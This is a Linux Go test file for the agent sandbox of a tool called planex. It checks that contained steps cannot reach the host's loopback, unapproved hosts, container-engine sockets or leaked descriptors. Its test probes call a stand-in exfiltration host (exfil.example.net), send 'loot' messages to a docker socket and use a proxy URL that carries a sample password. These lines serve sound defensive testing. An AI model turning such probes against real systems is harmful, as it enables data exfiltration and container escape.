//go:build linux

package agent

import (
	"bytes"
	"context"
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/planexhq/planex/internal/egress"
	"github.com/planexhq/planex/internal/sandbox"
	"github.com/planexhq/planex/internal/sandbox/sandboxtest"
)

// TestPreparedProcessNetwork: every process a step prepares (a command
// agent, run_command, directives, MCP stdio servers all go through
// PrepareContext) gets a network of its own: the host's loopback is out
// of reach, the proxy variables lead to planex's proxy, which refuses a
// host nobody allowed and records it in the step's own log, and the
// host's own proxy settings are gone.
func TestPreparedProcessNetwork(t *testing.T) {
	box := networkSandbox(t)
	probe := netProbe.Path(t)
	loop := sandboxtest.Listen(t, "tcp", "127.0.0.1:0")
	run := func(ctx context.Context, c Containment) string {
		cmd := exec.Command("sh", "-c", probe+" tcp "+loop.Addr().String()+" direct; "+probe+" get http://exfil.example.net/x; env | grep -i _proxy= | sort")
		cmd.Dir = "/"
		var out bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &out
		cleanup, err := c.PrepareContext(ctx, cmd, []string{"PATH=/usr/bin:/bin", "HTTPS_PROXY=http://corp-proxy:8080"}, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		defer cleanup()
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		timer := time.AfterFunc(time.Minute, func() { cmd.Process.Kill() })
		defer timer.Stop()
		if err := cmd.Wait(); err != nil {
			t.Fatalf("%v\n%s", err, out.String())
		}
		return out.String()
	}
	var stepLog egress.Log
	c := Containment{Sandbox: box, Read: []string{filepath.Dir(probe)}, Egress: &Egress{Log: &egress.Log{}}}
	out := run(WithEgressLog(context.Background(), &stepLog), c)
	lines := strings.Split(out, "\n")
	if !strings.HasPrefix(lines[0], "fail:") || len(loop.Got()) > 0 {
		t.Errorf("the host's loopback was reached: %q (listener got %q)", lines[0], loop.Got())
	}
	if !strings.HasPrefix(lines[1], "ok: 403") || !strings.Contains(lines[1], "exfil.example.net:80") {
		t.Errorf("a host nobody allowed: %q, want the proxy's 403", lines[1])
	}
	if got := egress.Format(stepLog.Refusals()); got != "exfil.example.net:80" {
		t.Errorf("the step's log holds %q, want the refusal", got)
	}
	if got := egress.Format(c.Egress.Log.Refusals()); got != "" {
		t.Errorf("the run-wide log got the step's refusal: %q", got)
	}
	if strings.Contains(out, "corp-proxy") || !strings.Contains(out, "HTTPS_PROXY=http://127.0.0.1:3128") || !strings.Contains(out, "no_proxy=127.0.0.1,localhost,::1") {
		t.Errorf("proxy variables:\n%s", out)
	}

	c.Network = sandbox.NetworkOpen
	if out := run(context.Background(), c); !strings.HasPrefix(out, "ok: pong") || !strings.Contains(out, "corp-proxy") {
		t.Errorf("with the network open the host's loopback and proxy settings should stay: %q", out)
	}
}

// TestHostProxyKeepsNoCredential: a step that keeps the host's network
// keeps its proxy settings, but not a proxy URL that holds a password.
func TestHostProxyKeepsNoCredential(t *testing.T) {
	t.Parallel()
	base := []string{
		"PATH=/bin",
		"HTTPS_PROXY=http://corp-proxy:3128",
		"http_proxy=http://user:hunter22@corp-proxy:3128",
		"ALL_PROXY=socks5://user@corp-proxy:1080",
		"https_proxy=corp%@proxy:3128",
		"NO_PROXY=localhost,.internal",
	}
	got := strings.Join(hostProxy(base), " ")
	if got != "HTTPS_PROXY=http://corp-proxy:3128 NO_PROXY=localhost,.internal" {
		t.Errorf("hostProxy = %q", got)
	}
}

// TestProxyUnderDeepTempDir: with a $TMPDIR so deep that a socket there
// would have a longer path than a Unix socket may (a CI's nested job
// folder), a contained step still gets its proxy: its socket's folder
// goes to /tmp instead, and is gone once the step ended.
func TestProxyUnderDeepTempDir(t *testing.T) {
	box := networkSandbox(t)
	probe := netProbe.Path(t)
	deep := filepath.Join(t.TempDir(), strings.Repeat("nested-job-folder/", 6))
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("TMPDIR", deep)
	dir, err := SocketDir("planex-egress-", "proxy.sock")
	if err != nil {
		t.Fatal(err)
	}
	os.Remove(dir)
	if !strings.HasPrefix(dir, "/tmp/planex-egress-") {
		t.Errorf("SocketDir under a deep $TMPDIR = %s, want a folder of /tmp", dir)
	}
	cmd := exec.Command(probe, "get", "http://exfil.example.net/x")
	cmd.Dir = "/"
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	c := Containment{Sandbox: box, Read: []string{filepath.Dir(probe)}, Egress: &Egress{Log: &egress.Log{}}}
	cleanup, err := c.PrepareContext(context.Background(), cmd, []string{"PATH=/usr/bin:/bin"}, nil, nil)
	if err != nil {
		t.Fatalf("preparing a contained step under a deep $TMPDIR: %v", err)
	}
	err = cmd.Run()
	cleanup()
	if err != nil || !strings.HasPrefix(out.String(), "ok: 403") {
		t.Errorf("the step's request through its proxy: %v, %q; want the proxy's 403", err, out.String())
	}
	entries, _ := os.ReadDir(deep)
	for _, e := range entries {
		if e.Name() != "planex-lend" { // root's lending locks stay, by design
			t.Errorf("the step left %s in $TMPDIR", e.Name())
		}
	}
}

// TestEngineSocketOutOfReach: a container engine's socket where
// DOCKER_HOST or CONTAINER_HOST says (away from /run, which the sandbox
// covers anyway) would start containers for whoever connects, with the
// host's / mounted and a network of their own. A contained program that
// finds it there reaches nothing, with the network open too; the same
// socket unnamed by those variables stays reachable (the row that shows
// the test can fail).
func TestEngineSocketOutOfReach(t *testing.T) {
	box, err := sandbox.New(context.Background(), sandbox.ModeAuto)
	if err != nil {
		t.Skipf("no sandbox on this machine: %v", err)
	}
	dir, err := os.MkdirTemp("/srv", "planex-engine-")
	if err != nil {
		t.Skipf("needs a folder outside /tmp and the homes, which the sandbox covers anyway (run as root): %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(dir, "docker.sock")
	l := sandboxtest.Listen(t, "unix", sock)
	if err := os.Chmod(sock, 0o666); err != nil {
		t.Fatal(err)
	}
	probe := netProbe.Path(t)
	for _, row := range []struct {
		name  string
		env   string
		reach bool
	}{
		{"DOCKER_HOST", "DOCKER_HOST=unix://" + sock, false},
		{"CONTAINER_HOST", "CONTAINER_HOST=unix://" + dir + "/./docker.sock", false},
		{"no variable naming it", "", true},
	} {
		msg := "loot-" + strings.ReplaceAll(row.name, " ", "-")
		cmd := exec.Command(probe, "unix", sock, msg)
		cmd.Dir = "/"
		var out bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &out
		c := Containment{Sandbox: box, Network: sandbox.NetworkOpen, Read: []string{filepath.Dir(probe)}}
		cleanup, err := c.PrepareContext(context.Background(), cmd, []string{"PATH=/usr/bin:/bin", row.env}, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		err = cmd.Run()
		cleanup()
		arrived := strings.Contains(strings.Join(l.Got(), " "), msg)
		if err != nil || arrived != row.reach || strings.HasPrefix(out.String(), "ok:") != row.reach {
			t.Errorf("%s: want reached=%v; the program said %q (%v), the engine got %q", row.name, row.reach, out.String(), err, l.Got())
		}
	}
}

// TestEgressSocketsPrivate: another user of the machine (another job of
// a shared self-hosted runner) connects to the Unix sockets a step's
// proxy and model gateway listen on, outside the sandbox: through the
// proxy it would reach the step's allowed hosts from the machine's
// network, through the gateway the model under the step's key. Their
// folders are planex's alone (0700), so the connection is refused; the
// owner's own connection works.
func TestEgressSocketsPrivate(t *testing.T) {
	// Not parallel: it ends a locked thread, which SIGKILLs any sandbox a
	// parallel test started from that thread (Pdeathsig is the thread's).
	if os.Geteuid() != 0 {
		t.Skip("needs root, to connect as another user")
	}
	for _, prefix := range []string{"planex-egress-", "planex-gateway-"} {
		dir, err := SocketDir(prefix, "s.sock")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(dir) })
		l := sandboxtest.Listen(t, "unix", filepath.Join(dir, "s.sock"))
		// The socket itself open to all, as a umask may leave it: the
		// folder alone must hold.
		if err := os.Chmod(l.Addr().String(), 0o777); err != nil {
			t.Fatal(err)
		}
		asOther := make(chan error, 1)
		go func() {
			// The thread keeps the other user's file system id and
			// ends with this goroutine (never unlocked).
			runtime.LockOSThread()
			if _, _, e := syscall.RawSyscall(syscall.SYS_SETFSUID, 65534, 0, 0); e != 0 {
				asOther <- e
				return
			}
			if _, _, e := syscall.RawSyscall(syscall.SYS_SETFSGID, 65534, 0, 0); e != 0 {
				asOther <- e
				return
			}
			c, err := net.Dial("unix", l.Addr().String())
			if err == nil {
				c.Close()
			}
			asOther <- err
		}()
		if err := <-asOther; !errors.Is(err, syscall.EACCES) {
			t.Errorf("%s: another user's connection ended with %v, want permission denied", prefix, err)
		}
		c, err := net.Dial("unix", l.Addr().String())
		if err != nil {
			t.Fatalf("%s: the owner could not connect: %v", prefix, err)
		}
		c.Close()
	}
}

// TestPreparedProcessHoldsOnlyItsStreams: a contained process, with the
// network its own (the proxy and a forwarded port relayed to planex) or
// the host's, lists its descriptors. It holds its three standard streams
// and nothing else: not a listening socket its caller held (one given as
// an extra file here), not the proxy's or a forward's socket, not a
// descriptor of the sandbox's first process or of planex.
func TestPreparedProcessHoldsOnlyItsStreams(t *testing.T) {
	t.Parallel()
	box := networkSandbox(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	held, err := ln.(*net.TCPListener).File()
	if err != nil {
		t.Fatal(err)
	}
	defer held.Close()
	fwd := filepath.Join(t.TempDir(), "fwd.sock")
	fl, err := net.Listen("unix", fwd)
	if err != nil {
		t.Fatal(err)
	}
	defer fl.Close()
	for _, network := range []sandbox.Network{sandbox.NetworkContained, sandbox.NetworkOpen} {
		c := Containment{Sandbox: box, Network: network, Egress: &Egress{Log: &egress.Log{}},
			Forward: []sandbox.Forward{{Port: 3129, Socket: fwd}}}
		cmd := exec.Command("sh", "-c", `for f in /proc/$$/fd/*; do [ -e "$f" ] && printf '%s=%s ' "${f##*/}" "$(readlink "$f")"; done; echo`)
		cmd.Dir = "/"
		cmd.ExtraFiles = []*os.File{held}
		var out bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &out
		cleanup, err := c.PrepareContext(context.Background(), cmd, []string{"PATH=/usr/bin:/bin"}, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		err = cmd.Run()
		cleanup()
		if err != nil {
			t.Fatalf("%s: %v\n%s", network, err, out.String())
		}
		fields := strings.Fields(out.String())
		var names []string
		for _, f := range fields {
			n, target, _ := strings.Cut(f, "=")
			names = append(names, n)
			if strings.HasPrefix(target, "socket:") || strings.Contains(target, "pidfd") {
				t.Errorf("%s: the program holds %s", network, f)
			}
		}
		if strings.Join(names, " ") != "0 1 2" {
			t.Errorf("%s: the program holds descriptors %q, want its three streams", network, out.String())
		}
	}
}

// networkSandbox is a sandbox that can give a step a network of its own;
// the test skips, saying why, on a machine that has none.
func networkSandbox(t *testing.T) *sandbox.Sandbox {
	t.Helper()
	box, err := sandbox.New(context.Background(), sandbox.ModeAuto)
	if err != nil {
		t.Skipf("no sandbox on this machine: %v", err)
	}
	if err := box.ProbeNetwork(context.Background()); err != nil {
		t.Skipf("this machine cannot make network namespaces: %v", err)
	}
	return box
}
